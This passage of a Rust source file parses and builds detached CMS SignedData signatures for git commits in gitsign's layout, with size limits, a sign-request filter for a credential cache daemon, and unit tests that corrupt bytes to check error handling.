//! CMS SignedData (RFC 5652) as git signers write it: detached, one signer.
//!
//! **Writing** (the signing path: [`signed_attributes`], [`tlog_attribute`],
//! [`build_signed_data`]) uses RustCrypto's structures: `cms`'s
//! `ContentInfo`, `SignedData`, `SignerInfo`, `EncapsulatedContentInfo`
//! and `x509-cert`'s `Attribute` and `Certificate`, encoded by `der`. The
//! output is byte-identical to Go gitsign's: every single-certificate Go
//! gitsign signature of the corpus is rebuilt byte for byte from its parts
//! (tests/corpus_library.rs), and our own signatures decode and re-encode
//! through the crates to the same bytes (tests/independent_parse.rs). Two
//! inputs must keep their bytes, and the crates decode and re-encode them:
//! the signed attributes (`der` re-sorts a `SET OF` when decoding) and the
//! leaf certificate (`x509-cert` drops an explicit DEFAULT when
//! re-encoding). Both are compared with their input after encoding and
//! refused when they differ, rather than signed or embedded changed; on
//! the corpus, `x509-cert` re-encodes all 52 certificates (31 Fulcio
//! leaves) byte for byte. What stays laid out by hand on this path is
//! the timestamp attribute ([`crate::pki::tsa::token_attribute`]), which
//! [`build_signed_data`] decodes into the crate's type like any other.
//!
//! **Reading** ([`SignedData::from_der`], what verification and
//! `gitsign verify` run) stays on our zero-copy reader over
//! [`crate::encoding::asn1`], for reasons measured on the corpus
//! (tests/independent_parse.rs, benches/parse.rs):
//! - the signature covers the signed attributes as stored, and
//!   `der` re-sorts them when decoding: 5 of the corpus's 43 DER
//!   signatures store them out of DER order (smimesign's four and a
//!   reordered tamper copy). Hashed as the crate re-encodes them,
//!   smimesign's two genuine signatures fail, and two that Go gitsign
//!   rejects (smimesign's ECDSA bug, which signed the sorted set and
//!   stored another order, and the tamper copy) verify;
//! - `der` reads no BER: it refuses gpgsm's 2 signatures (indefinite
//!   lengths), which we normalise to DER first (the normaliser never
//!   reorders);
//! - time: on the corpus's six offline Go gitsign signatures (~2 KiB,
//!   the leaf and a Rekor entry inside), ours parses a SignedData in
//!   16 µs on average and the crates in 65 µs (`ContentInfo` then
//!   `SignedData`, the certificate included), 4 times as long
//!   (benches/parse.rs, optimised without LTO, on a shared 2-core
//!   machine). The 49 µs more per signature were 2.5% of the in-process
//!   verification measured in the same session (benches/verify.rs: 1.99
//!   ms per object on that loaded machine) and are 10% of its 500 µs
//!   target; tests/bench/verify.sh allows 5%.
//!
//! tests/independent_parse.rs parses every corpus signature and ours with
//! both and asserts they agree (certificates, signer id, algorithms,
//! signature, signed and unsigned attributes, messageDigest, signingTime).

use std::fmt;

use cms::cert::{CertificateChoices, IssuerAndSerialNumber};
use cms::content_info::{CmsVersion, ContentInfo};
use cms::signed_data::{
    CertificateSet, EncapsulatedContentInfo, SignedAttributes, SignedData as CrateSignedData,
    SignerIdentifier, SignerInfo as CrateSignerInfo, SignerInfos,
};
use x509_cert::attr::Attribute as CrateAttribute;
use x509_cert::der::asn1::{ObjectIdentifier, OctetString, SetOfVec, UtcTime};
use x509_cert::der::{self, Any, Decode, Encode};
use x509_cert::spki::AlgorithmIdentifierOwned;

use crate::encoding::asn1::{self, tag, Reader, Tlv};
use crate::encoding::oid;
use crate::pki::crypto::Hash;
use crate::pki::x509::{CertError, Certificate};

/// Largest signature accepted, armored or not. gitsign's are ~3–6 KiB; a
/// corporate chain with CRLs stays far below this.
pub const MAX_SIGNATURE_LEN: usize = 256 * 1024;

/// Why a signature could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CmsError(pub String);

impl fmt::Display for CmsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for CmsError {}

impl From<asn1::Error> for CmsError {
    fn from(e: asn1::Error) -> Self {
        CmsError(e.to_string())
    }
}

impl From<CertError> for CmsError {
    fn from(e: CertError) -> Self {
        CmsError(format!("certificate in the signature: {e}"))
    }
}

/// How the signer names its certificate.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SignerId {
    /// issuer Name (as encoded) and serial INTEGER contents.
    IssuerSerial {
        /// The issuer Name element.
        issuer: Vec<u8>,
        /// The serial number contents.
        serial: Vec<u8>,
    },
    /// subjectKeyIdentifier.
    SubjectKeyId(Vec<u8>),
}

/// An attribute: its type and the raw encoding of each value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attribute {
    /// attrType contents.
    pub oid: Vec<u8>,
    /// attrValues, each a whole TLV.
    pub values: Vec<Vec<u8>>,
}

/// The one SignerInfo of a git signature.
#[derive(Debug, Clone)]
pub struct SignerInfo {
    /// Which certificate signed.
    pub sid: SignerId,
    /// digestAlgorithm.
    pub digest: Hash,
    /// The signed attributes re-tagged as `SET OF` (0x31): the exact bytes
    /// the signature covers.
    pub signed_attrs_der: Vec<u8>,
    /// The signed attributes, in stored order.
    pub signed_attrs: Vec<Attribute>,
    /// signatureAlgorithm element.
    pub signature_algorithm: Vec<u8>,
    /// The signature value.
    pub signature: Vec<u8>,
    /// Unsigned attributes, in stored order.
    pub unsigned_attrs: Vec<Attribute>,
}

/// A parsed detached SignedData.
#[derive(Debug, Clone)]
pub struct SignedData {
    /// Certificates carried in the signature, in order.
    pub certificates: Vec<Certificate>,
    /// The signer.
    pub signer: SignerInfo,
    /// True when the input was BER and had to be normalised.
    pub was_ber: bool,
}

/// Turns git's signature text into CMS DER: PEM `SIGNED MESSAGE` (also
/// `PKCS7`/`CMS`, which other tools write), or raw DER.
pub fn unarmor(sig: &[u8]) -> Result<Vec<u8>, CmsError> {
    if sig.len() > MAX_SIGNATURE_LEN {
        return Err(CmsError(format!(
            "the signature is {} bytes, larger than the {MAX_SIGNATURE_LEN}-byte limit",
            sig.len()
        )));
    }
    let trimmed = sig.trim_ascii_start();
    if trimmed.is_empty() {
        return Err(CmsError("the signature is empty".into()));
    }
    if trimmed.starts_with(b"-----BEGIN") {
        let text = std::str::from_utf8(trimmed)
            .map_err(|_| CmsError("the signature armor is not text".into()))?;
        let blocks = crate::encoding::pem::decode_all(text)
            .map_err(|e| CmsError(format!("unparseable signature: {e}")))?;
        if blocks.len() > 1 {
            return Err(CmsError(format!(
                "ambiguous signature: it holds {} signature blocks where git signatures have one \
                 (a duplicated gpgsig header?)",
                blocks.len()
            )));
        }
        let b = blocks
            .into_iter()
            .next()
            .ok_or_else(|| CmsError("no PEM block".into()))?;
        if !matches!(b.label.as_str(), "SIGNED MESSAGE" | "PKCS7" | "CMS") {
            return Err(CmsError(format!(
                "unparseable signature: PEM block is labelled \"{}\", expected \"SIGNED MESSAGE\"",
                b.label
            )));
        }
        if b.der.is_empty() {
            return Err(CmsError(
                "unparseable signature: the PEM block is empty".into(),
            ));
        }
        return Ok(b.der);
    }
    if trimmed[0] == tag::SEQUENCE {
        return Ok(trimmed.to_vec());
    }
    Err(CmsError(
        "unparseable signature: neither PEM (-----BEGIN SIGNED MESSAGE-----) nor DER".into(),
    ))
}

fn parse_attributes(set_contents: &[u8], what: &'static str) -> Result<Vec<Attribute>, CmsError> {
    let mut r = Reader::new(set_contents);
    let mut out = Vec::new();
    while !r.is_empty() {
        let attr = r.read(tag::SEQUENCE, what)?;
        let mut ar = attr.reader();
        let oid = ar.read(tag::OID, what)?.value.to_vec();
        let values = ar.read(tag::SET, what)?;
        ar.finish(what)?;
        let mut vr = values.reader();
        let mut vals = Vec::new();
        while !vr.is_empty() {
            vals.push(vr.read_any(what)?.raw.to_vec());
        }
        out.push(Attribute { oid, values: vals });
    }
    Ok(out)
}

fn parse_signer_info(si: Tlv<'_>) -> Result<SignerInfo, CmsError> {
    let w = "SignerInfo";
    let mut r = si.reader();
    let version = r.read(tag::INTEGER, w)?.small_uint(w)?;
    let sid = match r.peek_tag() {
        Some(tag::SEQUENCE) => {
            let ias = r.read(tag::SEQUENCE, "IssuerAndSerialNumber")?;
            if version != 1 {
                return Err(CmsError(format!(
                    "SignerInfo version {version} does not match its issuer-and-serial signer id"
                )));
            }
            let mut ir = ias.reader();
            let issuer = ir
                .read(tag::SEQUENCE, "IssuerAndSerialNumber issuer")?
                .raw
                .to_vec();
            let serial = ir
                .read(tag::INTEGER, "IssuerAndSerialNumber serial")?
                .value
                .to_vec();
            ir.finish("IssuerAndSerialNumber")?;
            SignerId::IssuerSerial { issuer, serial }
        }
        Some(t) if t == tag::context(0, false) => {
            SignerId::SubjectKeyId(r.read_any(w)?.value.to_vec())
        }
        _ => {
            return Err(CmsError(
                "SignerInfo has no recognisable signer identifier".into(),
            ))
        }
    };
    let digest_alg = r.read(tag::SEQUENCE, "digestAlgorithm")?;
    let digest_oid = digest_alg.reader().read(tag::OID, "digestAlgorithm")?.value;
    let digest = Hash::from_oid(digest_oid).ok_or_else(|| {
        CmsError(format!(
            "unsupported digest algorithm {}",
            asn1::oid_to_string(digest_oid)
        ))
    })?;
    let (signed_attrs_der, signed_attrs) =
        match r.read_optional(tag::context(0, true), "signedAttrs")? {
            Some(sa) => {
                // The signature covers the attributes with the universal SET tag
                // in place of the implicit [0].
                let mut der = sa.raw.to_vec();
                der[0] = tag::SET;
                (der, parse_attributes(sa.value, "signed attribute")?)
            }
            None => {
                return Err(CmsError(
                    "the signature has no signed attributes (git signers always write them)".into(),
                ))
            }
        };
    let signature_algorithm = r.read(tag::SEQUENCE, "signatureAlgorithm")?.raw.to_vec();
    let signature = r.read(tag::OCTET_STRING, "signature")?.value.to_vec();
    let unsigned_attrs = match r.read_optional(tag::context(1, true), "unsignedAttrs")? {
        Some(ua) => parse_attributes(ua.value, "unsigned attribute")?,
        None => Vec::new(),
    };
    r.finish(w)?;
    Ok(SignerInfo {
        sid,
        digest,
        signed_attrs_der,
        signed_attrs,
        signature_algorithm,
        signature,
        unsigned_attrs,
    })
}

impl SignedData {
    /// Parses a detached SignedData with exactly one signer.
    pub fn from_der(input: &[u8]) -> Result<SignedData, CmsError> {
        if input.len() > MAX_SIGNATURE_LEN {
            return Err(CmsError(
                "the signature is larger than the size limit".into(),
            ));
        }
        let (der, was_ber) = if asn1::needs_ber_normalisation(input) {
            (
                asn1::ber_to_der(input)
                    .map_err(|e| CmsError(format!("unparseable signature: {e}")))?,
                true,
            )
        } else {
            (input.to_vec(), false)
        };
        Self::parse_der(&der, was_ber, None)
            .map(|(sd, _)| sd)
            .map_err(|e| {
                if e.0.starts_with("unparseable") || e.0.starts_with("certificate") {
                    e
                } else {
                    CmsError(format!("unparseable signature: {e}"))
                }
            })
    }

    /// Parses a SignedData with exactly one signer that encapsulates its
    /// content, of type `content_type` (an RFC 3161 TimeStampToken carries
    /// its TSTInfo this way). Returns the SignedData and the eContent
    /// octets. Git signatures never take this path: [`SignedData::from_der`]
    /// stays detached-only.
    pub fn from_der_encapsulated(
        input: &[u8],
        content_type: &[u8],
    ) -> Result<(SignedData, Vec<u8>), CmsError> {
        if input.len() > MAX_SIGNATURE_LEN {
            return Err(CmsError(
                "the CMS structure is larger than the size limit".into(),
            ));
        }
        let (der, was_ber) = if asn1::needs_ber_normalisation(input) {
            (asn1::ber_to_der(input)?, true)
        } else {
            (input.to_vec(), false)
        };
        let (sd, content) = Self::parse_der(&der, was_ber, Some(content_type))?;
        let content =
            content.ok_or_else(|| CmsError("the encapsulated content is missing".into()))?;
        Ok((sd, content))
    }

    /// `encapsulated`: `None` for a detached id-data signature (git's), or
    /// the content type that must be encapsulated.
    fn parse_der(
        der: &[u8],
        was_ber: bool,
        encapsulated: Option<&[u8]>,
    ) -> Result<(SignedData, Option<Vec<u8>>), CmsError> {
        let ci = asn1::parse_single(der, tag::SEQUENCE, "ContentInfo")?;
        let mut r = ci.reader();
        let ct = r.read(tag::OID, "ContentInfo contentType")?;
        if ct.value != oid::SIGNED_DATA {
            return Err(CmsError(format!(
                "the CMS content is {}, not SignedData",
                asn1::oid_to_string(ct.value)
            )));
        }
        let content = r.read(tag::context(0, true), "ContentInfo content")?;
        r.finish("ContentInfo")?;
        let sd = asn1::parse_single(content.value, tag::SEQUENCE, "SignedData")?;
        let mut s = sd.reader();
        s.read(tag::INTEGER, "SignedData version")?;
        s.read(tag::SET, "digestAlgorithms")?;
        let eci = s.read(tag::SEQUENCE, "encapContentInfo")?;
        let mut er = eci.reader();
        let ect = er.read(tag::OID, "eContentType")?;
        let econtent = er.read_optional(tag::context(0, true), "eContent")?;
        er.finish("encapContentInfo")?;
        let content = match encapsulated {
            None => {
                if ect.value != oid::DATA {
                    return Err(CmsError(format!(
                        "the signed content type is {}, not id-data",
                        asn1::oid_to_string(ect.value)
                    )));
                }
                if econtent.is_some() {
                    return Err(CmsError(
                        "the signature embeds its content; git signatures are detached".into(),
                    ));
                }
                None
            }
            Some(expected) => {
                if ect.value != expected {
                    return Err(CmsError(format!(
                        "the encapsulated content type is {}, not {}",
                        asn1::oid_to_string(ect.value),
                        asn1::oid_to_string(expected)
                    )));
                }
                let ec = econtent
                    .ok_or_else(|| CmsError("the encapsulated content is missing".into()))?;
                let os = asn1::parse_single(ec.value, tag::OCTET_STRING, "eContent")?;
                Some(os.value.to_vec())
            }
        };
        let mut certificates = Vec::new();
        if let Some(certs) = s.read_optional(tag::context(0, true), "certificates")? {
            let mut cr = certs.reader();
            while !cr.is_empty() {
                let c = cr.read_any("certificates")?;
                if c.tag == tag::SEQUENCE {
                    certificates.push(Certificate::from_der(c.raw.to_vec())?);
                }
                // Other CertificateChoices (attribute certificates) play no part.
            }
        }
        // CRLs are carried by some corporate signers; revocation is out of
        // scope for short-lived Fulcio certificates.
        s.read_optional(tag::context(1, true), "crls")?;
        let infos = s.read(tag::SET, "signerInfos")?;
        s.finish("SignedData")?;
        let mut ir = infos.reader();
        let mut signers = Vec::new();
        while !ir.is_empty() {
            signers.push(ir.read(tag::SEQUENCE, "SignerInfo")?);
        }
        let signer = match signers.as_slice() {
            [one] => parse_signer_info(*one)?,
            [] => return Err(CmsError("the signature has no signer".into())),
            many => {
                return Err(CmsError(format!(
                    "the signature has {} signers; a git signature must have exactly one",
                    many.len()
                )))
            }
        };
        Ok((
            SignedData {
                certificates,
                signer,
                was_ber,
            },
            content,
        ))
    }

    /// The certificate the SignerInfo names, if carried.
    pub fn signer_certificate(&self) -> Option<&Certificate> {
        self.certificates.iter().find(|c| match &self.signer.sid {
            SignerId::IssuerSerial { issuer, serial } => {
                c.issuer() == issuer.as_slice() && c.serial() == serial.as_slice()
            }
            SignerId::SubjectKeyId(ski) => c.subject_key_id() == Some(ski.as_slice()),
        })
    }
}

impl SignerInfo {
    fn single_value(
        attrs: &[Attribute],
        id: &[u8],
        name: &str,
    ) -> Result<Option<Vec<u8>>, CmsError> {
        let mut found = attrs.iter().filter(|a| a.oid == id);
        let Some(a) = found.next() else {
            return Ok(None);
        };
        if found.next().is_some() {
            return Err(CmsError(format!(
                "the {name} attribute appears more than once"
            )));
        }
        match a.values.as_slice() {
            [v] => Ok(Some(v.clone())),
            _ => Err(CmsError(format!(
                "the {name} attribute must have exactly one value"
            ))),
        }
    }

    /// The messageDigest attribute's value.
    pub fn message_digest(&self) -> Result<Vec<u8>, CmsError> {
        let v = Self::single_value(&self.signed_attrs, oid::MESSAGE_DIGEST, "messageDigest")?
            .ok_or_else(|| CmsError("the signature has no messageDigest attribute".into()))?;
        Ok(asn1::parse_single(&v, tag::OCTET_STRING, "messageDigest")?
            .value
            .to_vec())
    }

    /// Checks the contentType attribute says id-data.
    pub fn check_content_type(&self) -> Result<(), CmsError> {
        if self.content_type()? != oid::DATA {
            return Err(CmsError("the contentType attribute is not id-data".into()));
        }
        Ok(())
    }

    /// The contentType attribute's OBJECT IDENTIFIER contents.
    pub fn content_type(&self) -> Result<Vec<u8>, CmsError> {
        let v = Self::single_value(&self.signed_attrs, oid::CONTENT_TYPE, "contentType")?
            .ok_or_else(|| CmsError("the signature has no contentType attribute".into()))?;
        Ok(asn1::parse_single(&v, tag::OID, "contentType")?
            .value
            .to_vec())
    }

    /// The single value of signed attribute `id`, if present.
    pub fn signed_value(&self, id: &[u8], name: &str) -> Result<Option<Vec<u8>>, CmsError> {
        Self::single_value(&self.signed_attrs, id, name)
    }

    /// The signingTime attribute, if present (an unverified claim of the signer).
    pub fn signing_time(&self) -> Result<Option<i64>, CmsError> {
        match Self::single_value(&self.signed_attrs, oid::SIGNING_TIME, "signingTime")? {
            Some(v) => {
                let mut r = Reader::new(&v);
                let t = r.read_any("signingTime")?;
                r.finish("signingTime")?;
                Ok(Some(t.time("signingTime")?))
            }
            None => Ok(None),
        }
    }

    /// The single value of unsigned attribute `id`, if present.
    pub fn unsigned_value(&self, id: &[u8], name: &str) -> Result<Option<Vec<u8>>, CmsError> {
        Self::single_value(&self.unsigned_attrs, id, name)
    }
}

/// A `SET OF` in DER order (sorted by encoding), hand-laid for the tests
/// of [`check_signable`], which also need layouts the crate would re-sort.
#[cfg(test)]
fn der_set_of(mut elements: Vec<Vec<u8>>) -> Vec<u8> {
    elements.sort();
    let parts: Vec<&[u8]> = elements.iter().map(Vec::as_slice).collect();
    asn1::encode_parts(tag::SET, &parts)
}

#[cfg(test)]
fn attribute(id: &[u8], value: &[u8]) -> Vec<u8> {
    let oid = asn1::encode(tag::OID, id);
    let set = asn1::encode(tag::SET, value);
    asn1::encode_parts(tag::SEQUENCE, &[&oid, &set])
}

/// UTCTime for a Unix time (1970–2049), hand-laid for the tests.
#[cfg(test)]
fn utc_time(t: i64) -> Vec<u8> {
    let s = crate::encoding::time::format_time(t); // 2023-06-05T16:11:20Z
    let b = s.as_bytes();
    let digits: String = [
        &b[2..4],
        &b[5..7],
        &b[8..10],
        &b[11..13],
        &b[14..16],
        &b[17..19],
    ]
    .iter()
    .map(|p| String::from_utf8_lossy(p).into_owned())
    .collect();
    asn1::encode(tag::UTC_TIME, format!("{digits}Z").as_bytes())
}

impl From<der::Error> for CmsError {
    fn from(e: der::Error) -> Self {
        CmsError(format!("cannot encode the signature: {e}"))
    }
}

/// One of our OID constants (DER contents) as the crate's type.
fn crate_oid(id: &[u8]) -> Result<ObjectIdentifier, CmsError> {
    ObjectIdentifier::from_bytes(id).map_err(|e| CmsError(format!("an object identifier: {e}")))
}

/// An attribute with one value.
fn crate_attribute(id: &[u8], value: Any) -> Result<CrateAttribute, CmsError> {
    Ok(CrateAttribute {
        oid: crate_oid(id)?,
        values: SetOfVec::try_from(vec![value])?,
    })
}

/// An AlgorithmIdentifier without parameters, as Go writes SHA-256 and
/// ecdsa-with-SHA256.
fn algorithm(id: &[u8]) -> Result<AlgorithmIdentifierOwned, CmsError> {
    Ok(AlgorithmIdentifierOwned {
        oid: crate_oid(id)?,
        parameters: None,
    })
}

/// The signed attributes gitsign writes — contentType id-data, signingTime,
/// messageDigest SHA-256(payload) — as the DER `SET OF` the signature covers.
pub fn signed_attributes(payload: &[u8], signing_time: i64) -> Result<Vec<u8>, CmsError> {
    signed_attributes_for_digest(&crate::pki::crypto::sha256(payload), signing_time)
}

/// [`signed_attributes`] for a payload whose SHA-256 is `digest`. Built
/// from `x509-cert`'s `Attribute` in `der`'s `SetOfVec`, whose sort is
/// DER's (by encoding: contentType, signingTime, messageDigest, as Go
/// writes them; pinned against Go's bytes by tests/corpus_library.rs).
/// Fails for a signing time UTCTime cannot hold (before 1970 as `der`
/// counts, or after 2049).
pub fn signed_attributes_for_digest(
    digest: &[u8; 32],
    signing_time: i64,
) -> Result<Vec<u8>, CmsError> {
    let secs = u64::try_from(signing_time)
        .map_err(|_| CmsError(format!("the signing time {signing_time} is before 1970")))?;
    let time = UtcTime::from_unix_duration(std::time::Duration::from_secs(secs))?;
    let attrs: SignedAttributes = SetOfVec::try_from(vec![
        crate_attribute(oid::CONTENT_TYPE, Any::encode_from(&crate_oid(oid::DATA)?)?)?,
        crate_attribute(oid::SIGNING_TIME, Any::encode_from(&time)?)?,
        crate_attribute(
            oid::MESSAGE_DIGEST,
            Any::encode_from(&OctetString::new(digest.to_vec())?)?,
        )?,
    ])?;
    Ok(attrs.to_der()?)
}

/// Largest message [`check_signable`] looks at (gitsign's signed
/// attributes are about 100 bytes).
const MAX_SIGNABLE: usize = 1024;

/// Checks that `message` is one of the two things gitsign ever asks a key
/// holder (the credential cache daemon) to sign, and nothing else: the DER
/// signed attributes of a git signature, exactly as [`signed_attributes`]
/// lays them out (contentType id-data, a UTCTime signingTime, a 32-byte
/// messageDigest, in DER order, nothing more), or a git object id as
/// online mode logs it (40 or 64 lowercase hex digits). Anything else (an
/// artifact, a token's subject, another protocol's bytes) is refused with
/// a sentence, so that whoever reaches the daemon cannot have it sign what
/// a Sigstore verifier of artifacts would accept.
pub fn check_signable(message: &[u8]) -> Result<(), String> {
    let refused = |what: &str| {
        Err(format!(
            "refused to sign {what}: the credential cache signs only what gitsign signs, the \
             DER signed attributes of a git commit or tag signature (contentType, signingTime, \
             messageDigest) or a lowercase hex git object id (40 or 64 digits)"
        ))
    };
    if matches!(message.len(), 40 | 64)
        && message
            .iter()
            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b))
    {
        return Ok(());
    }
    if message.len() > MAX_SIGNABLE {
        return refused(&format!("a message of {} bytes", message.len()));
    }
    match parse_signed_attributes(message) {
        Some((digest, time))
            if signed_attributes_for_digest(&digest, time).as_deref() == Ok(message) =>
        {
            Ok(())
        }
        Some(_) => refused("signed attributes in another layout than gitsign's"),
        None => refused(&format!(
            "a message of {} bytes that is neither",
            message.len()
        )),
    }
}

/// The messageDigest and signingTime of DER signed attributes that hold
/// exactly contentType, signingTime and messageDigest (32 bytes).
fn parse_signed_attributes(der: &[u8]) -> Option<([u8; 32], i64)> {
    let set = asn1::parse_single(der, tag::SET, "signed attributes").ok()?;
    let mut r = set.reader();
    let (mut digest, mut time, mut content_type) = (None, None, false);
    for _ in 0..3 {
        let attr = r.read(tag::SEQUENCE, "attribute").ok()?;
        let mut a = attr.reader();
        let id = a.read(tag::OID, "attribute type").ok()?;
        let values = a.read(tag::SET, "attribute values").ok()?;
        a.finish("attribute").ok()?;
        let value =
            asn1::parse_single(values.value, values.value.first().copied()?, "value").ok()?;
        match id.value {
            x if x == oid::CONTENT_TYPE && value.tag == tag::OID && value.value == oid::DATA => {
                content_type = true
            }
            x if x == oid::SIGNING_TIME && value.tag == tag::UTC_TIME => {
                time = Some(value.time("signingTime").ok()?)
            }
            x if x == oid::MESSAGE_DIGEST && value.tag == tag::OCTET_STRING => {
                digest = Some(<[u8; 32]>::try_from(value.value).ok()?)
            }
            _ => return None,
        }
    }
    r.finish("signed attributes").ok()?;
    if !content_type {
        return None;
    }
    Some((digest?, time?))
}

/// The unsigned attribute carrying a Rekor `TransparencyLogEntry` (protobuf).
pub fn tlog_attribute(entry_protobuf: &[u8]) -> Result<Vec<u8>, CmsError> {
    let value = Any::encode_from(&OctetString::new(entry_protobuf.to_vec())?)?;
    Ok(crate_attribute(oid::REKOR_TLOG_ENTRY, value)?.to_der()?)
}

/// Builds a detached SignedData in Go gitsign's layout: SHA-256, id-data,
/// the leaf certificate only, one SignerInfo by issuer and serial,
/// ecdsa-with-SHA256, optional unsigned attributes (each a DER
/// `Attribute`; written in DER order).
///
/// Every structure is the `cms` crate's, encoded by `der`. Two parts come
/// in as bytes and must come out as the same bytes, which the crate does
/// not promise (it decodes and re-encodes): the signed attributes, which
/// the signature covers (`der` re-sorts a `SET OF` on decode), and the
/// leaf certificate, whose TBS its issuer signed (`x509-cert` drops an
/// explicit DEFAULT on re-encoding). Both are compared with their input
/// and refused when they differ, rather than signed wrongly.
pub fn build_signed_data(
    signed_attrs_der: &[u8],
    signature: &[u8],
    leaf: &Certificate,
    unsigned_attrs: &[Vec<u8>],
) -> Result<Vec<u8>, CmsError> {
    let signed_attrs = SignedAttributes::from_der(signed_attrs_der)
        .map_err(|e| CmsError(format!("the signed attributes: {e}")))?;
    if signed_attrs.to_der()? != signed_attrs_der {
        return Err(CmsError(
            "the signed attributes are not in DER order: encoding them would change the bytes \
             the signature covers"
                .into(),
        ));
    }
    let cert = x509_cert::Certificate::from_der(leaf.der())
        .map_err(|e| CmsError(format!("the signing certificate: {e}")))?;
    if cert.to_der()? != leaf.der() {
        return Err(CmsError(
            "the signing certificate is not in the DER that x509-cert writes: embedding it \
             would change the bytes its issuer signed"
                .into(),
        ));
    }
    let unsigned_attrs = if unsigned_attrs.is_empty() {
        None
    } else {
        let attrs = unsigned_attrs
            .iter()
            .map(|a| CrateAttribute::from_der(a))
            .collect::<Result<Vec<_>, _>>()
            .map_err(|e| CmsError(format!("an unsigned attribute: {e}")))?;
        Some(SetOfVec::try_from(attrs)?)
    };
    let sha256 = algorithm(oid::SHA256)?;
    let signer = CrateSignerInfo {
        version: CmsVersion::V1,
        sid: SignerIdentifier::IssuerAndSerialNumber(IssuerAndSerialNumber {
            issuer: cert.tbs_certificate.issuer.clone(),
            serial_number: cert.tbs_certificate.serial_number.clone(),
        }),
        digest_alg: sha256.clone(),
        signed_attrs: Some(signed_attrs),
        signature_algorithm: algorithm(oid::ECDSA_SHA256)?,
        signature: OctetString::new(signature.to_vec())?,
        unsigned_attrs,
    };
    let signed_data = CrateSignedData {
        version: CmsVersion::V1,
        digest_algorithms: SetOfVec::try_from(vec![sha256])?,
        encap_content_info: EncapsulatedContentInfo {
            econtent_type: crate_oid(oid::DATA)?,
            econtent: None,
        },
        certificates: Some(CertificateSet(SetOfVec::try_from(vec![
            CertificateChoices::Certificate(cert),
        ])?)),
        crls: None,
        signer_infos: SignerInfos(SetOfVec::try_from(vec![signer])?),
    };
    let content_info = ContentInfo {
        content_type: crate_oid(oid::SIGNED_DATA)?,
        content: Any::encode_from(&signed_data)?,
    };
    Ok(content_info.to_der()?)
}

/// PEM armor as git stores CMS signatures.
pub fn armor(der: &[u8]) -> String {
    crate::encoding::pem::encode("SIGNED MESSAGE", der)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A Fulcio leaf and its signature from the corpus (Go gitsign's).
    fn corpus_signature() -> SignedData {
        SignedData::from_der(&unarmor(&signature_of_corpus()).unwrap()).unwrap()
    }

    /// The corpus commit's signature, as git stores it.
    fn signature_of_corpus() -> Vec<u8> {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/objects/gitsign/gs_commit_offline_latest.commit");
        let data = std::fs::read(path).unwrap();
        crate::git::gitobj::split_commit(&data, crate::git::gitobj::HashAlgo::Sha1)
            .unwrap()
            .unwrap()
            .signature
            .to_vec()
    }

    /// The corpus signature, its SignerInfo naming the leaf by
    /// subjectKeyIdentifier (`openssl cms -keyid` writes this form).
    fn signed_by_key_id() -> (Vec<u8>, Vec<u8>) {
        let sd = corpus_signature();
        let ski = sd
            .signer_certificate()
            .unwrap()
            .subject_key_id()
            .unwrap()
            .to_vec();
        let ci = ContentInfo::from_der(&unarmor(&signature_of_corpus()).unwrap()).unwrap();
        let mut crate_sd: CrateSignedData = ci.content.decode_as().unwrap();
        let mut infos = crate_sd.signer_infos.0.into_vec();
        infos[0].sid = SignerIdentifier::SubjectKeyIdentifier(
            x509_cert::ext::pkix::SubjectKeyIdentifier(OctetString::new(ski.clone()).unwrap()),
        );
        infos[0].version = CmsVersion::V3;
        crate_sd.signer_infos = SignerInfos(SetOfVec::try_from(infos).unwrap());
        let ci = ContentInfo {
            content_type: ci.content_type,
            content: Any::encode_from(&crate_sd).unwrap(),
        };
        (ci.to_der().unwrap(), ski)
    }

    /// A SignerInfo names its certificate by issuer and serial or by key id
    /// ([0]); any other form is refused by name.
    #[test]
    fn signer_ids_are_issuer_and_serial_or_key_id() {
        let (der, ski) = signed_by_key_id();
        let sd = SignedData::from_der(&der).unwrap();
        assert_eq!(sd.signer.sid, SignerId::SubjectKeyId(ski.clone()));
        let leaf = sd.signer_certificate().unwrap();
        assert_eq!(leaf.subject_key_id(), Some(ski.as_slice()));
        // The same bytes under the tag [1]: no signer identifier CMS knows.
        let mut at = vec![0x80, ski.len() as u8];
        at.extend_from_slice(&ski);
        let i = der.windows(at.len()).position(|w| w == at).unwrap();
        let mut other = der.clone();
        other[i] = 0x81;
        let e = SignedData::from_der(&other).unwrap_err();
        assert!(e.0.contains("no recognisable signer identifier"), "{e}");
    }

    /// Armor holding two signature blocks (a duplicated gpgsig header) is
    /// refused, not read as its first block.
    #[test]
    fn two_armored_blocks_are_ambiguous() {
        let one = armor(&[0x30, 0x00]);
        let e = unarmor(format!("{one}{one}").as_bytes()).unwrap_err();
        assert!(e.0.contains("ambiguous signature"), "{e}");
        assert_eq!(unarmor(one.as_bytes()).unwrap(), vec![0x30, 0x00]);
    }

    /// An unreadable certificate in the signature is said as such, once,
    /// not as an unparseable signature.
    #[test]
    fn certificate_errors_keep_their_own_words() {
        let sd = corpus_signature();
        let cert = sd.signer_certificate().unwrap().der().to_vec();
        let mut der = unarmor(&signature_of_corpus()).unwrap();
        let at = der.windows(cert.len()).position(|w| w == cert).unwrap();
        assert_eq!(der[at + 8], 0xa0, "the TBS's [0] version");
        der[at + 8] = 0xa5;
        let e = SignedData::from_der(&der).unwrap_err();
        assert!(e.0.starts_with("certificate in the signature: "), "{e}");
        let e = SignedData::from_der(&[0x30, 0x00]).unwrap_err();
        assert!(
            e.0.starts_with("unparseable signature: ") && e.0.matches("unparseable").count() == 1,
            "{e}"
        );
    }

    /// Signed and unsigned attributes are found by their type, each in its
    /// own set.
    #[test]
    fn attributes_by_type() {
        let sd = corpus_signature();
        let si = &sd.signer;
        let digest = si
            .signed_value(oid::MESSAGE_DIGEST, "messageDigest")
            .unwrap()
            .unwrap();
        assert_eq!(digest[0], tag::OCTET_STRING);
        assert_eq!(&digest[2..], si.message_digest().unwrap().as_slice());
        assert_eq!(
            si.unsigned_value(oid::MESSAGE_DIGEST, "messageDigest")
                .unwrap(),
            None
        );
        assert_eq!(si.signed_value(oid::SHA256, "none").unwrap(), None);
    }

    /// The size limit admits a signature of exactly the limit.
    #[test]
